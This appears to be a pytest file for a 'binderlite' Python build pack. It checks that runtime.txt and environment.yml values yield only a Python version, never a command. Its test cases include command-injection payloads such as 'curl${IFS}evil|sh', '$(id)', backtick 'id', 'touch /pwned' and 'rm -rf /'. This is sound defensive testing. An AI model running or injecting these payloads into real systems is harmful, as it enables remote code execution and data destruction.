"""What a repository's files can put into the Dockerfile: only a Python version, never a command."""

import pytest

from binderlite.builds.buildpacks.python import BinderlitePythonBuildPack


@pytest.fixture
def repo(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.mark.parametrize(
    "runtime, command",
    [
        ("python-3.10", "python3.10"),
        ("python-3.11.4", "python3.11"),
        ("python-3", "python3"),
        ("python-3.8;curl${IFS}evil|sh", "python3"),
        ("python-$(id)", "python3"),
        ("python-3.9 && touch /pwned", "python3"),
    ],
)
def test_runtime_txt_gives_a_version_or_nothing(repo, runtime, command):
    (repo / "runtime.txt").write_text(runtime + "\n")
    assert BinderlitePythonBuildPack(base_image="base")._python_request()[0] == command


@pytest.mark.parametrize(
    "python, command",
    [("3.10", "python3.10"), ("3.9.*", "python3.9"), ("3.8; rm -rf /", "python3"), ("3.8`id`", "python3")],
)
def test_environment_yml_python_gives_a_version_or_nothing(repo, python, command):
    (repo / "environment.yml").write_text(f"dependencies:\n  - python={python}\n")
    assert BinderlitePythonBuildPack(base_image="base")._python_request()[0] == command
